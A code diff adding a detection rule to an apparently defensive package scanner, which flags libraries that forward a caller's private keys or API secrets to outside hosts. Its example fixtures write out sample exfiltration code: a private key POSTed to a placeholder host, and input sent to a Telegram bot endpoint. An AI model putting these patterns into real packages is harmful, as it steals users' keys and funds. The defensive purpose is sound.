@@ -1,0 +1,135 @@
+import type { Action, Context, Flow, Inspection, Rule } from '../lib/types.ts'
+import { keyMaterial } from './behaviour/credentials.ts'
+import { guardsInWords } from './behaviour/guards.ts'
+import { isStranger, placeInWords } from './behaviour/place.ts'
+import type { Place } from './behaviour/place.ts'
+import { findingsOf, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
+import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
+import { registrableDomain } from './hosts/host.ts'
+import { severityOf, when } from './finding.ts'
+
+type Leak = { readonly flow: Flow; readonly place: Place; readonly key: boolean }
+
+/** What a program trusts a package with, sent on to somebody else. */
+export const callerSecretExfiltration: Rule = {
+  meta: {
+    id: 'caller-secret-exfiltration',
+    title: 'Passes its caller’s keys on to a stranger',
+    severity: 'critical',
+    description:
+      'A program hands the package a key or a recovery phrase to work with, and the package sends it to a host that is ' +
+      'neither the service’s nor its own. A private key or recovery phrase never has to leave the machine; an API key ' +
+      'goes to the service it is for, and to nobody else. Also: anything its caller passes that ends in a mailbox ' +
+      'written into the code, a bot or a webhook of the author.',
+    references: [
+      '@solana/web3.js 1.95.6 (December 2024)',
+      'xrpl 4.2.1 (April 2025)',
+      'ccxt-mexc-futures (April 2025)',
+      'raydium-bs58, bs58 look-alikes (2025-26)',
+    ],
+    blindSpots: [
+      'An API key that goes to one fixed host only: whether that host is the service cannot be told from the code.',
+      'Keys passed in objects whose fields are never named.',
+    ],
+    examples: {
+      flags: [
+        {
+          title: 'a private key posted besides being used',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "exports.sign = (privateKey, text) => {\n  fetch('https://rpc-pool.invalid/q', { method: 'POST', body: privateKey })\n  return require('crypto').createHmac('sha256', privateKey).update(text).digest('hex')\n}\n",
+          },
+        },
+        {
+          title: 'an encoder that reports its input to a bot',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "exports.decode = text => {\n  fetch('https://api.telegram.org/bot0000000000:AAInertInertInert/sendMessage?text=' + text)\n  return Buffer.from(text, 'hex')\n}\n",
+          },
+        },
+      ],
+      passes: [
+        {
+          title: 'a client of one service',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "exports.orders = (apiKey, apiSecret) => fetch('https://api.a.example/orders', { headers: { key: apiKey, secret: apiSecret } })\n",
+          },
+        },
+        {
+          title: 'a wallet that signs by itself',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const sign = (privateKey, text) => require('crypto').createHmac('sha256', privateKey).update(text).digest('hex')\n" +
+              "exports.send = (privateKey, tx) => fetch('https://rpc.a.example', { method: 'POST', body: JSON.stringify({ tx, signature: sign(privateKey, tx) }) })\n",
+          },
+        },
+      ],
+    },
+  },
+  check(inspection, context) {
+    const leaks = inspection.flows.flatMap(flow => leakOf(flow, inspection, context))
+    const home = homeOf(leaks, context)
+    const sightings = leaks.flatMap((leak): readonly Sighting[] => {
+      const action = weigh(leak, home, context)
+      return action === undefined
+        ? []
+        : [{ flow: leak.flow, place: leak.place, action, severity: severityOf(action) }]
+    })
+    return findingsOf(sightings, say)
+  },
+}
+
+function leakOf(flow: Flow, inspection: Inspection, context: Context): readonly Leak[] {
+  const { kind, name } = flow.source
+  if (kind !== 'caller-secret' && kind !== 'caller') return []
+  const place = leavesFor(flow, inspection, context)
+  if (place === undefined || !isStranger(place)) return []
+  return [{ flow, place, key: kind === 'caller-secret' && keyMaterial.test(name) }]
+}
+
+/** The registrable domain most of the caller's data goes to: the service the package is a client of. */
+function homeOf(leaks: readonly Leak[], context: Context): string | undefined {
+  const calls = new Map<string, Set<string>>()
+  for (const { flow, place } of leaks) {
+    if (place.host === undefined || place.kind === 'capture') continue
+    const domain = registrableDomain(place.host, context.lists.hosts)
+    const lines = calls.get(domain) ?? new Set<string>()
+    calls.set(domain, lines.add(`${flow.sink.at.path}:${flow.sink.at.line}`))
+  }
+  const ranked = [...calls].toSorted((a, b) => b[1].size - a[1].size)
+  const [first, second] = ranked
+  return first !== undefined && first[1].size > (second?.[1].size ?? 0) ? first[0] : undefined
+}
+
+function weigh({ flow, place, key }: Leak, home: string | undefined, context: Context): Action | undefined {
+  const sure = flow.certain
+  if (flow.source.kind === 'caller') {
+    // A mailbox of the author's own, in whatever a package does for its caller.
+    return place.kind === 'capture' && place.class?.startsWith('a bot') === true
+      ? sure
+        ? 'block'
+        : 'ask'
+      : undefined
+  }
+  if (key) return sure ? 'block' : 'ask'
+  if (place.kind === 'capture') return sure ? 'block' : 'ask'
+  const domain = place.host === undefined ? undefined : registrableDomain(place.host, context.lists.hosts)
+  const stray = home !== undefined && domain !== home
+  if (stray) return place.kind === 'rented' && sure ? 'block' : 'ask'
+  return flow.phase === 'import' && !flow.byCall ? 'ask' : undefined
+}
+
+function say(group: SightingGroup): string {
+  const [{ flow, place }] = group
+  const shown = place.host?.shown ?? 'a computed destination'
+  return (
+    `${when(flow.phase, flow.byCall)} it takes ${sourcesInWords(group)} and sends that to ${shown}, ` +
+    `${placeInWords(place)}${guardsInWords(flow.guards)}. ` +
+    `Whoever owns that host can then act in the caller’s name. Do not give this package a key; replace any it has seen.`
+  )
+}
